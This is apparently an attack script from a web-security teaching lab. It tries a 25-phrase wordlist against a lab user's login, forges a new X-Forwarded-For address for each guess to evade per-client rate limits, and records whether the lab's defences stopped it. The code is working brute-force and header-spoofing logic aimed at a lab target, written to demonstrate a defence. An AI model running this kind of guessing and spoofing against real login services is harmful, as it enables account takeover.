"""Guessing a password from a list, each guess from a "new" address (a forged X-Forwarded-For).

Olivia's password is on a short list of phrases people pick. The attacker
tries the whole list against her name, and writes another client address
into X-Forwarded-For for every guess, hoping each one looks like a new
visitor. Without rate limits every guess is checked; with them, the guesses
stop counting as new visitors, and her password is never even tried.
"""
from pathlib import Path

import lab

WEAK = "previous"       # step 04: no rate limits at all
MAX_REQUESTS = 30       # 1 registration + 25 guesses
MAX_SECONDS = 120      # a safety stop, not a timing: each login costs a real scrypt (N=2^17) and a laptop may be busy
OWN_SERVERS = True      # it fills the rate-limit counters: no other attack may share them

# Shipped with the lab, 25 lines: the last one is Olivia's.
WORDLIST = Path(__file__).with_name("wordlist.txt")
VICTIM = {"username": "olivia", "email": "olivia@example.com", "password": "summer picnic at the lake"}


def attack(target):
    target.verified_user(**VICTIM)
    guesses = WORDLIST.read_text(encoding="utf-8").splitlines()
    answers = []
    for number, guess in enumerate(guesses, start=1):
        spoofed = f"203.0.113.{number}"  # a documentation address (RFC 5737), a new one per guess
        response = target.client(f"guesser {number}", address=spoofed).post(
            "/auth/login", json={"username": VICTIM["username"], "password": guess})
        answers.append(response)
        if response.status == 200:
            return lab.Outcome(got_through=True, evidence=[
                f"{number} guesses from {number} forged addresses: every one was checked",
                f"guess {number}, {guess!r}: 200, logged in as {response.json['user']['username']}",
            ])
    if answers[-1].status != 429:  # neither let in nor limited: the login itself is broken
        raise lab.Missing(f"olivia's right password answered {answers[-1].status}, not 200 nor 429")
    return lab.Outcome(got_through=False, evidence=held_evidence(answers))


def held_evidence(answers):
    checked = [answer for answer in answers if answer.status == 401]
    refused = [answer for answer in answers if answer.status == 429]
    lines = [f"{len(answers)} guesses from {len(answers)} forged addresses: "
             f"{len(checked)} checked (401), {len(refused)} refused unchecked (429)"]
    if refused:
        lines.append(f"the refusal: 429 {refused[0].json['error']!r}, with a Retry-After header")
    last = answers[-1]
    lines.append(f"the right password, guess {len(answers)}: {last.status}"
                 + (", never checked" if last.status == 429 else ""))
    return lines
